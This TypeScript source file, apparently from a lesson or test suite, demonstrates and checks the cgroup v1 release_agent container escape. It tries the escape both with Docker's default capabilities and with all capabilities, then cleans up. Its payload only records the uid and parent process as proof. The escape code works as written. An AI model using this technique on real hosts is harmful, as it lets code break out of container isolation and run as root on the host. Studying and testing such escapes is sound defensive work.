import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  DOCKER_CAPABILITIES,
  fork,
  getpid,
  limitBounding,
  setCapabilities,
  waitAsync,
} from '../01-processes/index.ts';
import { CLONE, MS, mount, umount, unshare } from '../02-namespaces/index.ts';
import { writeControl } from './control-file.ts';
import { until } from './folders.ts';

/** What came of one try. */
export interface Escape {
  /** What the kernel said; empty when it let everything happen. */
  refused: string;
  /** What the program wrote that the kernel started for us: who it was, and whose child. Empty when it never ran. */
  proof: string;
}

/**
 * The way out that cgroup v1 leaves open to whoever may mount one: when the last process of a cgroup ends, the kernel runs a program
 * of the tree's owner's choice, as root, outside of every container. It is tried here in a tree made for the purpose, named `name`, which
 * is gone afterwards.
 * @param contained whether to try it with the capabilities of a Docker container, or with all
 */
export async function tryReleaseAgent(name: string, contained: boolean): Promise<Escape> {
  const folder = mkdtempSync(join(tmpdir(), 'release-agent-'));
  const proof = join(folder, 'proof');
  const refusal = join(folder, 'refused');
  try {
    const pid = fork(() => {
      try {
        unshare(CLONE.NEWNS); // a container has its own mounts; ours vanish with it
        mount({ target: '/', flags: MS.REC | MS.PRIVATE });
        if (contained) {
          limitBounding(DOCKER_CAPABILITIES);
          setCapabilities({
            effective: DOCKER_CAPABILITIES,
            permitted: DOCKER_CAPABILITIES,
            inheritable: [],
          });
        }
        escape(folder, proof, name);
      } catch (error) {
        writeFileSync(refusal, (error as Error).message);
      }
    });
    await waitAsync(pid);
    const refused = existsSync(refusal) ? readFileSync(refusal, 'utf8') : '';
    return { refused, proof: existsSync(proof) ? readFileSync(proof, 'utf8').trim() : '' };
  } finally {
    rmSync(folder, { recursive: true });
  }
}

function escape(folder: string, proof: string, name: string): void {
  //#region escape
  const tree = join(folder, 'tree');
  mkdirSync(tree);
  // Any v1 tree will do, and a named one can always be made.
  mount({ source: 'cgroup', target: tree, type: 'cgroup', data: `none,name=${name}` });
  try {
    const agent = join(folder, 'agent');
    writeFileSync(
      agent,
      `#!/bin/sh\nread -r _ _ _ parent _ </proc/$$/stat\nid=$(id -u)\necho "uid $id, child of process $parent" >${proof}.new\nmv ${proof}.new ${proof}\n`,
      { mode: 0o755 },
    );
    mkdirSync(join(tree, 'trap'));
    writeControl(join(tree, 'release_agent'), agent);
    writeControl(join(tree, 'trap/notify_on_release'), '1');
    // In and out again: the trap is empty, and springs.
    writeControl(join(tree, 'trap/cgroup.procs'), String(getpid()));
    writeControl(join(tree, 'cgroup.procs'), String(getpid()));
    // Whoever removes it before the kernel has come to that removes what it was going to do, too.
    until(() => existsSync(proof), 30_000);
    rmdirSync(join(tree, 'trap'));
    //#endregion
  } finally {
    umount(tree);
    // The kernel forgets a tree when it is unmounted and empty, and "empty" comes a little after rmdir.
    until(() => {
      if (!readFileSync('/proc/self/cgroup', 'utf8').includes(`name=${name}:`)) return true;
      mount({ source: 'cgroup', target: tree, type: 'cgroup', data: `none,name=${name}` });
      umount(tree);
      return false;
    }, 30_000);
  }
}
